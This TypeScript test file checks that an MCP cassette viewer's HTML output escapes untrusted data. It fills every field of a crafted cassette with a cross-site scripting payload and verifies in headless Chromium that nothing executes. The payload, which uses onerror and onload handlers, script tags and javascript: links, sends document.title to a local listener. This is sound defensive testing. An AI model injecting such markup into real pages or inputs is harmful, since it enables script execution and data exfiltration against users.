/**
 * A crafted cassette runs no script in `view`: a payload in every field of
 * every kind of entry (the header's too), the page opened in Debian's
 * chromium and every frame opened by its link, hovered and clicked. Nothing
 * may run: no `window.__pwned`, no dialog, no request to a local listener
 * the payload points at, no element the payload would have made, and the
 * payload is on the page as text.
 */
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { createServer } from "node:http";
import path from "node:path";
import { CLI, run, tempDir } from "../helpers.ts";
import { listenLocal } from "../http/http_helpers.ts";
import type { LocalUpstream } from "../http/http_helpers.ts";
import { browserMissing, HeadlessChromium } from "./_browser.ts";
import { writeCassette } from "./_cassettes.ts";

const skip = browserMissing();
/** A skipped test names why in its title too: not every runner prints a skip's reason. */
const title = (name: string) => skip ? `${name} [skipped: ${skip}]` : name;

let listener: LocalUpstream;
let leaks = 0;
before(async () => {
  listener = await listenLocal(createServer((_req, res) => {
    leaks++;
    res.end();
  }));
});
after(() => listener?.close());

/** Markup that runs script wherever it is parsed as HTML, in content or in an attribute. */
function payload(): string {
  const leak = new URL("/leak", listener.url).href;
  const run = `window.__pwned=(window.__pwned||0)+1;alert(1);location='${leak}?'+document.title`;
  return `"'><img src=x onerror="${run}"><script>${run}</script>` +
    `<svg onload="${run}"></svg><a href="javascript:${run}">x</a></b></i></span></div>`;
}

/** One entry of every kind, every string field (and `x`, ids and names) the payload. */
function craftedLines(p: string): string[] {
  const header = {
    format: "mcp-cassette",
    version: 1,
    recorder: p,
    created: p,
    transport: "stdio",
    era: "legacy",
    protocolVersion: p,
    server: { command: [p, p], name: p, version: p, url: p },
    redaction: { rules: [p, p, p, p] },
  };
  let t = 0;
  const at = (entry: Record<string, unknown>) => ({ t: t += 1, session: p, ...entry });
  const entries = [
    at({ type: "session", event: "start", sessionId: p, reason: p }),
    at({ type: "raw", dir: "s2c", text: p }),
    at({
      type: "message",
      dir: "c2s",
      msg: { jsonrpc: "2.0", id: p, method: p, params: { name: p } },
    }),
    at({ type: "message", dir: "s2c", msg: { jsonrpc: "2.0", id: p, result: { [p]: p } } }),
    at({
      type: "message",
      dir: "c2s",
      msg: {
        jsonrpc: "2.0",
        id: 7,
        method: "tools/call",
        params: { name: p, arguments: { [p]: p } },
      },
    }),
    at({
      type: "message",
      dir: "s2c",
      msg: {
        jsonrpc: "2.0",
        id: 7,
        result: { isError: true, content: [{ type: "text", text: p }] },
      },
    }),
    at({
      type: "message",
      dir: "s2c",
      msg: { jsonrpc: "2.0", id: p + "s", method: p, params: { uri: p } },
    }),
    at({
      type: "message",
      dir: "c2s",
      msg: { jsonrpc: "2.0", id: p + "s", error: { code: 1, message: p } },
    }),
    at({ type: "message", dir: "s2c", msg: { jsonrpc: "2.0", method: p, params: { [p]: p } } }),
    at({ type: "message", dir: "c2s", msg: [{ jsonrpc: "2.0", id: 9, method: p }] }),
    at({ type: "message", dir: "c2s", msg: p }),
    at({ type: "http-request", x: p, method: p, path: p, headers: { [p]: p }, credentials: [p] }),
    at({ type: "http-response", x: p, status: p, headers: { [p]: p }, body: p, text: p }),
    at({ type: "sse-event", x: p, sse: { event: p, id: p }, data: p }),
    at({ type: "http-end", x: p, reason: p, error: p }),
    at({ type: "session", event: "end", exitCode: p, reason: p }),
  ];
  return [header, ...entries].map((line) => JSON.stringify(line));
}

test(title("a payload in every field of every entry runs nowhere on the view page"), {
  skip,
}, async () => {
  const dir = tempDir();
  const p = payload();
  const cassette = path.join(dir, "crafted.cassette.jsonl");
  const lines = craftedLines(p);
  writeCassette(cassette, lines);
  const html = path.join(dir, "crafted.html");
  const viewed = await run([...CLI, "view", cassette, "-o", html]);
  assert.equal(viewed.code, 0, viewed.stderr);

  const browser = await HeadlessChromium.launch();
  const dialogs: string[] = [];
  try {
    const opened = await browser.open(html);
    const { page } = opened;
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      dialog.dismiss().catch(() => {});
    });
    await page.$eval("#tl", (e) => e.scrollIntoView());
    for (let line = 2; line <= lines.length; line++) {
      await page.evaluate(`location.hash = "#frame-${line}"`);
      const selected = await page.waitForSelector(
        `#rows .row.sel a.ln[href="#frame-${line}"]`,
        { timeout: 10_000 },
      ).catch(() => null);
      // A payload that ran has left the page (or said so) by now.
      assert.deepEqual(
        { leaks, dialogs, pwned: await page.evaluate("window.__pwned").catch(() => "gone") },
        { leaks: 0, dialogs: [], pwned: undefined },
        `line ${line} ran the payload`,
      );
      assert.ok(selected, `line ${line} did not open`);
      // A hover re-draws the rows: each step finds the row afresh.
      await page.hover("#rows .row.sel .t");
      await page.click("#rows .row.sel .t");
      // The frame's entry is on the page, as text.
      const shown = await page.$eval("#detail", (e) => e.textContent ?? "");
      assert.ok(shown.includes("img src=x onerror"), `line ${line}: the payload is not shown`);
    }
    const body = await page.$eval("body", (e) => e.textContent ?? "");
    assert.ok(body.includes(`<script>window.__pwned`), "the header's payload is not shown as text");
    assert.equal(await page.evaluate("window.__pwned"), undefined, "the payload ran");
    assert.deepEqual(dialogs, []);
    const made = await page.evaluate(`[
      document.querySelectorAll("img, iframe, object, embed").length,
      document.querySelectorAll("script").length,
      [...document.querySelectorAll("*")].filter((e) =>
        [...e.attributes].some((a) => /^on/i.test(a.name) || /^\\s*javascript:/i.test(a.value))
      ).length,
    ]`);
    assert.deepEqual(made, [0, 3, 0], "elements made from the payload: [media, scripts, handlers]");
    assert.equal(leaks, 0, "the payload reached the local listener");
    assert.deepEqual(opened.requests.filter((url) => !url.startsWith("file://")), []);
    assert.equal(await page.evaluate("location.protocol"), "file:");
  } finally {
    await browser.close();
  }
});
